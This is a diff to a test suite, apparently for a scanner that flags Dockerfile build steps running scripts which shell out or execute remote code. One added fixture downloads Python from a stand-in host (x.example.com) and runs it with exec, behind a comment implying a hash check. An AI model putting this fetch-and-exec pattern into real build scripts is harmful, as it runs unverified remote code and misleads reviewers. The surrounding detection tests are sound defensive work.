@@ -20,6 +20,9 @@ describe('a copied program in another language', () => {
       'setup.py',
       python("subprocess.run('JOB', shell=True, check=True)"),
     ],
+    ['RUN python3 -Wignore setup.py', 'setup.py', python('os.system("JOB")')],
+    ['RUN node -r dotenv/config setup.js', 'setup.js', node('execSync("JOB");')],
+    ['RUN ruby -r json setup.rb', 'setup.rb', 'system("JOB", exception: true)\n'],
     ['RUN cd tools && python setup.py', 'tools/setup.py', python('os.popen("JOB").read()')],
     ['RUN python3 -m tools.install', 'tools/install.py', python('subprocess.check_call("JOB", shell=True)')],
     ['RUN python3 -m tools', 'tools/__main__.py', python('subprocess.getoutput("JOB")')],
@@ -140,6 +143,15 @@ describe('a copied program in another language', () => {
     const interpreter = { py: 'python3', js: 'node', pl: 'perl', rb: 'ruby' }[path.slice(-2)];
     const run = `RUN ${interpreter} ${path}`;
     expect(await failuresOf(image(run, { [path]: '' }), image(run, { [path]: code }))).toEqual(['remote-script-exec']);
+  });
+
+  it('fetches code that a comment says is checked', async () => {
+    const code =
+      '# hashlib.sha256(b).hexdigest()\nimport urllib.request\nexec(urllib.request.urlopen("https://x.example.com/i.py").read())\n';
+    const run = 'RUN python3 setup.py';
+    expect(await failuresOf(image(run, { 'setup.py': '' }), image(run, { 'setup.py': code }))).toEqual([
+      'remote-script-exec',
+    ]);
   });
 
   it.each([
